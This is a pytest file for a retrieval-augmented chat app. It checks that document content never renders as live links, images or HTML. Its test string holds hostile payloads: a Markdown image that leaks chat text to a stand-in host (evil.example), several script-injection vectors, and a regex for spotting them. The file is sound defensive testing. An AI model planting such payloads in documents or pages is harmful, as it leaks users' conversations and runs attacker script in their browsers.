"""No link, image or HTML of a document comes to life on a page, whatever the document holds."""

from __future__ import annotations

import ast
import re
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from ladder.answering import Citation
from ladder.methods import preset
from ladder.models.fakes import use_fakes
from ladder.project import Task, TaskFolder, create_project
from rag import chat_view, source_view
from rag.citations import Support
from rag.few_shot.instruction_card import changes_html
from rag.few_shot.instructions import word_changes
from rag.few_shot.leaderboard_view import legend_html
from rag.few_shot.spent_card import bar_html
from rag.indexing import index_documents
from rag.retrieval import Passage
from rag.turn import Turn

if TYPE_CHECKING:
    from streamlit.testing.v1 import AppTest

ROOT = Path(__file__).parents[2]
EVIL = (
    "Standard delivery takes five days. ![spy](https://evil.example/spy.png?q={chat}) "
    "[click me](https://evil.example/go) <https://evil.example/auto> https://evil.example/bare "
    '<img src="https://evil.example/x.png" onerror="alert(1)"> <script>alert(1)</script> '
    '<a href="javascript:alert(1)">here</a> <svg onload=alert(1)> </div><iframe src="//evil">'
)
ALIVE = re.compile(
    r"(?<!\\)!?(?<!\\)\[[^\]]*(?<!\\)\]\(|<img|<script|<a |<svg|<iframe|//evil\.ex|www\.evil"
)
"""Also a bare address, of which Markdown makes a link."""
PLAIN = {
    "div", "strong", "blockquote", "mark", "span", "br", "p", "em", "code", "pre", "b", "i", "ins",
    "del", "style",
}  # fmt: skip
MARKDOWN = (
    "markdown", "caption", "title", "header", "subheader", "error", "warning", "info", "success",
    "button", "button_group", "checkbox", "radio", "selectbox", "multiselect", "text_input",
    "expander", "tabs", "toggle", "metric", "toast", "table",
)  # fmt: skip
PLAIN_OPTIONS = {"selectbox", "multiselect"}
"""Their options, and so what is chosen, stand in an input field: text, never Markdown."""


class Tags(HTMLParser):
    """Notes which tags and attributes some HTML has."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data: str) -> None:
        self.text += data


def read(html: str) -> Tags:
    tags = Tags()
    tags.feed(html)
    return tags


def html_made() -> dict[str, str]:
    citation = Citation("a.md", 0, 34, EVIL[:34])
    passage = Passage("a.md", 0, len(EVIL), EVIL, heading=EVIL, similarity=0.9)
    turn = Turn(EVIL, EVIL, [passage], 0.9, [Support(0, 34, citation, 0.9)], state="done")
    return {
        "plain_html": chat_view.plain_html(EVIL),
        "answer_html": chat_view.answer_html(turn),
        "quote_html": source_view.quote_html(passage, citation),
        "quote_html of an unknown passage": source_view.quote_html(
            None, Citation("a.md", 0, 9, EVIL)
        ),
        "marked_html": source_view.marked_html(EVIL, 9, 40),
        "marked_html of nothing": source_view.marked_html(EVIL, 0, 0),
        "changes_html": changes_html(word_changes("Route it.", f"Route {EVIL} it.")),
        "bar_html": bar_html([(EVIL, 3), ("question", 4), ("answer", 5), ("free", 6)], 18),
        "legend_html": legend_html([("o", "#000", EVIL)]),
    }


@pytest.mark.parametrize("name", html_made())
def test_html_that_is_made_of_a_document_holds_no_tag_of_it(name: str) -> None:
    tags = read(html_made()[name])
    assert tags.tags <= PLAIN
    assert tags.attributes <= {"style", "id", "class", "title", "aria-hidden"}
    assert "https://evil.example/" in tags.text  # as text


def test_every_maker_of_html_is_tried_here() -> None:
    makers = {
        node.name
        for path in (ROOT / "rag").rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.FunctionDef) and node.name.endswith("_html")
    }
    assert makers == {name.split()[0] for name in html_made()}


def test_no_page_lets_markup_through_and_html_comes_from_its_makers_alone() -> None:
    loose = []
    for path in [ROOT / "app.py", *(f for p in ("rag", "ladder", "advisor", "training")
                                    for f in (ROOT / p).rglob("*.py"))]:  # fmt: skip
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if not isinstance(node, ast.Call):
                continue
            place = f"{path.relative_to(ROOT)}:{node.lineno}"
            named = {k.arg: k.value for k in node.keywords}
            value = named.get("unsafe_allow_html") or named.get("unsafe_allow_javascript")
            if isinstance(value, ast.Constant) and value.value:
                loose.append(place)
            called = node.func.attr if isinstance(node.func, ast.Attribute) else ""
            ours = path.is_relative_to(ROOT / "rag")
            if called == "html" and ours and not _made(node):
                loose.append(place)
    assert loose == []


def _made(node: ast.Call) -> bool:
    """Return whether what is drawn is the return value of a maker, or a constant."""
    (argument, *_) = node.args
    if isinstance(argument, ast.Constant):
        return True
    function = argument.func if isinstance(argument, ast.Call) else None
    name = getattr(function, "attr", getattr(function, "id", ""))
    return str(name).endswith("_html")


def shown_as_markdown(app: AppTest) -> list[str]:
    """Return every text on a page that Streamlit reads as Markdown."""
    found: list[str] = []
    for kind in MARKDOWN:
        for element in app.get(kind):
            plain = kind in PLAIN_OPTIONS
            for name in ("label", "help") if plain else ("value", "label", "help", "body"):
                text: Any = getattr(element, name, "")
                found.append(text if isinstance(text, str) else "")
            found += [] if plain else [str(each) for each in getattr(element, "options", [])]
    return found


def test_chat_draws_nothing_of_a_document_as_markup(
    home: Path, open_page: Callable[..., AppTest]
) -> None:
    project = create_project("shop")
    project.add_document("a.md", f"# Delivery\n\n## Times {EVIL}\n\n{EVIL}\n".encode())
    project.add_document("_www.evil.example_.md", f"# Other\n\n{EVIL}\n".encode())
    project.add_task(Task("ask", "qa", instruction="Answer from the passages."))
    folder: TaskFolder = project.task("ask")
    folder.save_setup(preset("rag", folder.task))
    with use_fakes(reply=EVIL):
        index_documents(project, folder.setup().embedder or "")  # type: ignore[union-attr]
        app = open_page("chat", project="shop")
        app.chat_input[0].set_value("How long does standard delivery take? Five days?").run()
    assert not app.exception
    drawn = [element.value for element in app.get("html")]
    assert any("evil.example" in read(str(html)).text for html in drawn)
    for html in drawn:  # the page's own style sheet holds nothing of a document
        assert read(str(html)).tags <= PLAIN or "evil" not in str(html)
    assert [text for text in shown_as_markdown(app) if ALIVE.search(text)] == []
